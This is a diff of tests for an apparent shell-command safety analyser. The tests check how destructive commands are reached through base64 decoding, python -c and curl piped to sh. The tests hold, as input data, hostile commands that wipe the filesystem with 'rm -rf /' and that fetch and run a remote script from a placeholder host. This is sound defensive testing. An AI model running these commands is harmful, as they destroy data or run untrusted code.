@@ -122,11 +122,11 @@ def test_every_bypass_style_yields_the_same_delete(line: str) -> None:
 
 
 def test_via_records_how_a_command_was_reached() -> None:
-    rm = [c for c in run("echo cm0gLXJmIC8= | base64 -d | sh").commands if c.name == "rm"][0]
+    rm = next(c for c in run("echo cm0gLXJmIC8= | base64 -d | sh").commands if c.name == "rm")
     assert rm.via == ("base64 -d",)
-    rm = [c for c in run("python -c 'import os; os.system(\"rm -rf /\")'").commands if c.name == "rm"][0]
+    rm = next(c for c in run("python -c 'import os; os.system(\"rm -rf /\")'").commands if c.name == "rm")
     assert rm.via == ("python -c",)
-    sh = [c for c in run("curl -s https://x.example/i.sh | sh").commands if c.name == "sh"][0]
+    sh = next(c for c in run("curl -s https://x.example/i.sh | sh").commands if c.name == "sh")
     assert "stdin:curl" in sh.via
 
 
@@ -311,7 +311,7 @@ def test_relative_paths_resolve_against_cwd(tmp_path: Path) -> None:
 
 
 def test_scanner_crash_input_is_survived() -> None:
-    """'{' followed by U+F8FC2 segfaults tree-sitter-bash's scanner; run it in a child so a regression is a failure."""
+    """'{' then U+F8FC2 segfaults tree-sitter-bash's scanner: run it in a child so a regression fails one test."""
     import subprocess
     import sys
 
